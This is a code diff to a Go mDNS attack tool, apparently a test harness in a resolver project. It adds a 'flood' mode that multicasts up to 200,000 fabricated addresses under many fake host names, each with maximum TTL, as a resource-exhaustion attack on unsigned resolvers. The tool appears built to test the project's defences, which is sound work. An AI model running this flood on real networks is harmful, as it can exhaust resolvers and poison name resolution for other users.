@@ -5,9 +5,16 @@
 //	rogue -mode announce -host master-1 -cluster ocp4 -addr 198.51.100.166 [-key FILE -age 60s] [-goodbye]
 //	rogue -mode capture -host master-1 -out FILE   # save one signed announcement of host
 //	rogue -mode replay -in FILE                    # multicast the saved bytes again
+//	rogue -mode flood -host flood -hosts 1000 -addrs 200000 -batch 200 -gap 3ms
 //
 // announce and replay send -count packets -gap apart and exit; capture prints
 // "listening" once its sockets are open and exits after saving a packet.
+//
+// flood is the resource-exhaustion attack on an unsigned resolver: from one
+// IPv4 source it announces -addrs made-up addresses (10.64.0.0 up), -batch per
+// packet, for -hosts names "<host>-<i>" taken in turn, with -ttl (the wire
+// maximum by default) on every record; it prints "flooded A addresses in P
+// packets" and exits.
 package main
 
 import (
@@ -26,6 +33,7 @@ import (
 	"github.com/infradns/infradns/internal/mdns"
 
 	"github.com/miekg/dns"
+	"golang.org/x/net/ipv4"
 )
 
 func main() {
@@ -41,6 +49,10 @@ func main() {
 	gap := flag.Duration("gap", 200*time.Millisecond, "pause between packets")
 	out := flag.String("out", "", "capture: file to write the packet to")
 	in := flag.String("in", "", "replay: file holding the packet")
+	nAddrs := flag.Int("addrs", 200000, "flood: addresses to announce in all")
+	batch := flag.Int("batch", 200, "flood: addresses per packet")
+	hosts := flag.Int("hosts", 1000, "flood: host names to spread the addresses over")
+	ttl := flag.Uint("ttl", 0xffffffff, "flood: TTL of every record")
 	flag.Parse()
 
 	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
@@ -48,6 +60,10 @@ func main() {
 	ifi, err := net.InterfaceByName(*ifname)
 	if err != nil {
 		log.Fatal(err)
+	}
+	if *mode == "flood" {
+		flood(ifi, *host, *cluster, *nAddrs, *batch, *hosts, uint32(*ttl), *gap)
+		return
 	}
 	conn, err := mdns.Listen(ctx, ifi)
 	if err != nil {
@@ -67,7 +83,7 @@ func main() {
 		}
 		var key []byte
 		if *keyFile != "" {
-			if key, err = mdns.LoadKey(*keyFile); err != nil {
+			if key, err = mdns.LoadKey(*keyFile, nil); err != nil {
 				log.Fatal(err)
 			}
 		}
@@ -143,4 +159,48 @@ func signedAnnouncement(m *dns.Msg, host string) bool {
 		}
 	}
 	return sig && addr
+}
+
+// flood sends the addresses from the IPv4 socket alone, so that they all come
+// from one source address (mdns.Conn would send each packet on both families).
+func flood(ifi *net.Interface, host, cluster string, n, batch, hosts int, ttl uint32, gap time.Duration) {
+	if batch < 1 || hosts < 1 {
+		log.Fatal("-batch and -hosts must be at least 1")
+	}
+	pc, err := net.ListenPacket("udp4", net.JoinHostPort("0.0.0.0", fmt.Sprint(mdns.Port)))
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer pc.Close()
+	p := ipv4.NewPacketConn(pc)
+	for _, err := range []error{p.SetMulticastInterface(ifi), p.SetMulticastTTL(255)} {
+		if err != nil {
+			log.Fatal(err)
+		}
+	}
+	group := &net.UDPAddr{IP: mdns.GroupV4.AsSlice(), Port: mdns.Port}
+	packets := 0
+	for sent := 0; sent < n; packets++ {
+		if packets > 0 {
+			time.Sleep(gap)
+		}
+		addrs := make([]netip.Addr, 0, batch)
+		for ; len(addrs) < batch && sent < n; sent++ {
+			v := uint32(10)<<24 | uint32(64)<<16 + uint32(sent)
+			addrs = append(addrs, netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}))
+		}
+		name := fmt.Sprintf("%s-%d", host, packets%hosts)
+		svc := mdns.DefaultService(cluster, name)
+		svc.TTL = ttl
+		z := mdns.NewZone(name+".local.", cluster, []mdns.Service{svc}, addrs, nil)
+		z.HostTTL = ttl
+		b, err := z.Announcement(mdns.Stamp{}, false).Pack()
+		if err != nil {
+			log.Fatal(err)
+		}
+		if _, err := p.WriteTo(b, nil, group); err != nil {
+			log.Fatal(err)
+		}
+	}
+	fmt.Printf("flooded %d addresses in %d packets\n", n, packets)
 }
